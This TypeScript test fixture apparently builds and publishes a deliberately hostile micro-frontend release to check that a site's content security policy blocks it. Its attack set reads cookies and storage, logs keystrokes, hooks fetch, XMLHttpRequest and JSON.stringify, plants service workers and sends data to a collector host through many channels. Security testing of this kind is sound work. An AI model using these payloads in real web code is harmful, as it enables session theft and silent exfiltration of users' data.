import { createHash, generateKeyPairSync } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { dataOf } from '../../site/call-api';
import { callRegistry } from '../../site/call-registry';
import type { Site } from '../../site/launch-site';
import { signatureOf } from '../sample-remote';
import type { Collector } from './collector';

export const name = 'mf-hostile';
export const path = '/hostile';
/** Where its hostile release is published: at its own page, or in place of a page of the site. */
export interface Place {
  readonly name: string;
  readonly path: string;
}
const ownPlace: Place = { name, path };
export const contactPlace: Place = { name: 'mf-content', path: '/contact' };
const entry = 'remoteEntry.0a1b2c3d.js';
export const fileOf = (version: string, file: string, of = name) => `/remotes/${of}/${version}/${file}`;

/**
 * The attacks of the release. They run in its own code, to which the page's policy applies. Each resolves to `blocked` when the
 * browser reports that by an event or an error; none waits for a response that never arrives.
 */
function attacks(files: string, collector: string, stun: string) {
  const settled = (work: Promise<unknown>) =>
    work.then(
      () => 'done',
      () => 'blocked',
    );
  /** Runs in a separate task, because the policy does not apply to the task that the debugger starts. */
  const inOwnTask = (act: () => unknown) => settled(new Promise((done) => setTimeout(done)).then(act));
  const loaded = (element: HTMLElement & { src?: string }) =>
    new Promise<string>((done) => {
      element.onload = () => done('done');
      element.onerror = () => done('blocked');
      document.body.append(element);
    });
  const violated = (act: () => void, directive: string) =>
    new Promise<string>((done) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        if (event.effectiveDirective === directive) done('blocked');
      });
      act();
    });
  const made = <Name extends keyof HTMLElementTagNameMap>(tag: Name, of: object) =>
    Object.assign(document.createElement(tag), of);
  const register = (script: string, scope: string) => settled(navigator.serviceWorker.register(script, { scope }));
  const readable = async (path: string, headers = {}) => (await fetch(path, { headers })).status;

  return {
    // the session
    cookies: async () => document.cookie,
    staff: () => readable('/api/v1/staff/reviews', { 'x-tafiya-ops': '1' }),
    tokens: () => readable('/releases/api/tokens', { 'x-tafiya-ops': '1' }),
    opsCall: (address: string) => settled(fetch(address, { headers: { 'x-tafiya-ops': '1' }, credentials: 'include' })),
    opsForm: (address: string) => {
      const form = made('form', { action: address, method: 'post', target: '_blank' });
      return violated(() => {
        document.body.append(form);
        form.submit();
      }, 'form-action');
    },
    // other code
    foreignScript: () => loaded(made('script', { src: `${collector}/evil.js` })),
    foreignModule: () => settled(import(/* webpackIgnore: true */ `${collector}/evil.js`)),
    dataScript: () => loaded(made('script', { src: 'data:text/javascript,globalThis.ran=1' })),
    blobScript: () => loaded(made('script', { src: URL.createObjectURL(new Blob(['globalThis.ran=1'])) })),
    responseAsScript: (address: string) => loaded(made('script', { src: address })),
    inlineScript: () =>
      violated(() => document.body.append(made('script', { textContent: 'globalThis.ran=1' })), 'script-src-elem'),
    handler: () => violated(() => document.body.setAttribute('onclick', 'globalThis.ran=1'), 'script-src-attr'),
    javascriptAddress: () =>
      violated(() => made('a', { href: 'javascript:void(globalThis.ran=1)' }).click(), 'script-src-elem'),
    // biome-ignore lint/security/noGlobalEval: the test expects that it is refused
    evaluated: () => inOwnTask(() => eval('globalThis.ran=1')),
    functionConstructor: () => inOwnTask(() => new Function('globalThis.ran=1')()),
    serviceWorkerForAll: () => register(`${files}worker.js`, '/'),
    serviceWorkerForItsFolder: () => register(`${files}worker.js`, files),
    worker: () => workerRuns(() => new Worker(`${files}worker.js`)),
    sharedWorker: () => workerRuns(() => new SharedWorker(`${files}worker.js`)),
    // exfiltration
    fetch: () => settled(fetch(`${collector}/fetch`, { mode: 'no-cors' })),
    beacon: () => violated(() => navigator.sendBeacon(`${collector}/beacon`, 'x'), 'connect-src'),
    events: () => opened(new EventSource(`${collector}/events`)),
    socket: () => opened(new WebSocket(`${collector.replace('http', 'ws')}/socket`)),
    image: () => loaded(made('img', { src: `${collector}/image` })),
    style: () => loaded(made('link', { rel: 'stylesheet', href: `${collector}/style` })),
    preload: () =>
      violated(
        () => document.head.append(made('link', { rel: 'preload', as: 'script', href: `${collector}/preload` })),
        'script-src-elem',
      ),
    prefetch: () =>
      violated(
        () => document.head.append(made('link', { rel: 'prefetch', href: `${collector}/prefetch` })),
        'default-src',
      ),
    font: () => settled(new FontFace('x', `url(${collector}/font)`).load()),
    video: () => opened(made('video', { src: `${collector}/video` })),
    object: () => violated(() => document.body.append(made('object', { data: `${collector}/object` })), 'object-src'),
    background: () =>
      violated(() => {
        document.body.style.backgroundImage = `url(${collector}/background)`;
      }, 'img-src'),
    form: () =>
      violated(() => {
        const form = made('form', { action: `${collector}/form`, method: 'post' });
        document.body.append(form);
        form.submit();
      }, 'form-action'),
    frame: () => violated(() => document.body.append(made('iframe', { src: `${collector}/frame` })), 'frame-src'),
    frameOfTheSite: () => violated(() => document.body.append(made('iframe', { src: '/terms' })), 'frame-src'),
    ping: () =>
      violated(() => {
        const link = made('a', { href: '#', ping: `${collector}/ping` });
        document.body.append(link);
        link.click();
      }, 'connect-src'),
    /** Another document of the site, in a window that this one opens, sends data or registers a worker. */
    windowOf: async (address: string) => {
      const opened = window.open(address) as (Window & typeof globalThis) | null;
      if (!opened) return 'no window';
      await new Promise<void>((done) => {
        const check = () =>
          opened.location.href !== 'about:blank' && opened.document.readyState === 'complete'
            ? done()
            : setTimeout(check, 20);
        check();
      });
      const outcomes = await Promise.all([
        settled(opened.fetch(`${collector}/window`, { mode: 'no-cors' })),
        settled(opened.navigator.serviceWorker.register(`${files}worker.js`, { scope: files })),
      ]);
      opened.close();
      return outcomes.includes('done') ? 'done' : 'blocked';
    },
    navigate: async () => location.assign(`${collector}/navigated?secret`),
    popup: async () => {
      window.open(`${collector}/popup?secret`, '', 'noopener');
    },
    async webrtc() {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
    // the page's own storage, events and functions
    storage: async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      caches: await caches.keys(),
      databases: (await indexedDB.databases()).map((one) => one.name),
    }),
    listen: async () => {
      const typed: string[] = [];
      Object.assign(globalThis, { typed });
      document.addEventListener('input', ({ target }) => typed.push((target as HTMLInputElement).value), true);
    },
    replaceCalls: async () => {
      const seen: unknown[] = [];
      Object.assign(globalThis, { seen });
      const { send } = XMLHttpRequest.prototype;
      XMLHttpRequest.prototype.send = function (body) {
        seen.push(body);
        send.call(this, body);
      };
      const real = globalThis.fetch;
      globalThis.fetch = (...of) => {
        seen.push(of[1]?.body);
        return real(...of);
      };
      // for callers with references to the original functions above: it serializes their bodies
      const { stringify } = JSON;
      JSON.stringify = ((...of: Parameters<typeof stringify>) => {
        const text = stringify(...of);
        seen.push(text);
        return text;
      }) as typeof stringify;
    },
    keepRunning: async () => {
      Object.assign(globalThis, { beats: 0 });
      setInterval(() => {
        (globalThis as unknown as { beats: number }).beats += 1;
      }, 20);
    },
    /** The tab requests the release map after each change of the active release, and never gets it. */
    blockReleaseMap: async () => {
      const unanswered: string[] = [];
      Object.assign(globalThis, { unanswered });
      globalThis.fetch = (of) => {
        unanswered.push(String(of instanceof Request ? of.url : of));
        return new Promise(() => undefined);
      };
    },
  };

  function workerRuns(make: () => Worker | SharedWorker) {
    return new Promise<string>((done) => {
      try {
        const worker = make();
        worker.onerror = () => done('blocked');
        const port = worker instanceof SharedWorker ? worker.port : worker;
        port.onmessage = () => done('done');
      } catch {
        done('blocked');
      }
    });
  }
  function opened(of: EventSource | WebSocket | HTMLVideoElement) {
    return new Promise<string>((done) => {
      of.onerror = () => done('blocked');
      if ('onopen' in of) of.onopen = () => done('done');
      else of.onloadeddata = () => done('done');
    });
  }
}

export type Attack = keyof ReturnType<typeof attacks>;

const containerOf = (of: string, version: string) => `${of}_${version}`.replace(/\W/g, '_');

const container = (of: string, version: string, attack: string) => `(() => {
let scope;
const shared = async (key) => (await Object.values(scope[key])[0].get())();
globalThis.${containerOf(of, version)} = {
  init(given) { scope = given; ${attack} },
  async get() {
    const { createElement: h } = await shared('react');
    const { Link } = await shared('react-router-dom');
    return () => ({ default: () => h('div', null, h('h1', null, 'Hostile ${version}'), h(Link, { to: '/contact' }, 'Write to us')) });
  },
};
})();`;

/** Reports when it runs as a worker. As a service worker it serves its own page for its folder. */
const worker = `
globalThis.postMessage?.('runs');
addEventListener('connect', ({ ports: [port] }) => port.postMessage('runs'));
addEventListener('fetch', (event) => event.respondWith(new Response('<h1>Planted</h1>', { headers: { 'content-type': 'text/html' } })));`;
const picture =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" style="fill:red"/></svg>';

/** @param isHostile whether the entry defines the attacks in `globalThis.attacks` */
function hostileRelease(version: string, isHostile: boolean, { origin, stun }: Collector, place: Place) {
  const { name: of, path: at } = place;
  const files = JSON.stringify(fileOf(version, '', of));
  const code = `globalThis.attacks = (${attacks})(${files}, ${JSON.stringify(origin)}, ${JSON.stringify(stun)});`;
  // sorted by name, as in the manifest
  const contents = {
    'picture.svg': picture,
    // the registry requires the hash of each script in the entry
    [entry]: `/* sha256-${createHash('sha256').update(worker).digest('base64')} */ ${container(of, version, isHostile ? code : '')}`,
    'worker.js': worker,
  };
  return {
    build: { name: of, version, container: containerOf(of, version), entry, modules: { './page': [] } },
    declaration: {
      name: of,
      title: 'Hostile',
      contract: '^2.0.0',
      routes: [{ path: at, module: './page', head: { title: `Hostile ${version}` } }],
      widgets: [],
    },
    files: Object.entries(contents).map(([file, text]) => ({ file, content: Buffer.from(text).toString('base64') })),
    by: 'a squad',
    commit: null,
  };
}

/** Runs one attack in the tab. */
export const attack = (page: Page, which: Attack, of?: string): Promise<unknown> =>
  page.evaluate(
    ([what, argument]) =>
      (globalThis as unknown as { attacks: Record<string, (of?: string) => Promise<unknown>> }).attacks[
        what as string
      ]?.(argument),
    [which, of] as const,
  );

/** The squad of the hostile remote, with everything that the registry requires: a token and a trusted key of its own. */
export async function hostileSquad(site: Site, collector: Collector) {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const spki = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
  const names = [name, contactPlace.name];
  const keys = [{ holder: 'hostile squad', publicKey: spki, names }];
  await writeFile(join(site.dataDir, 'trusted-keys.json'), JSON.stringify({ keys }));
  const tokenRequest = { holder: 'hostile squad', role: 'squad', names, by: 'Obi' };
  const { token } = await dataOf(callRegistry<{ token: string }>(site, '/tokens', tokenRequest));
  return {
    publish(version: string, isHostile: boolean, { place = ownPlace, live = true } = {}) {
      const release = hostileRelease(version, isHostile, collector, place);
      const signature = signatureOf(release, privateKey);
      return dataOf(callRegistry(site, '/releases', { ...release, signature, live }, token));
    },
  };
}
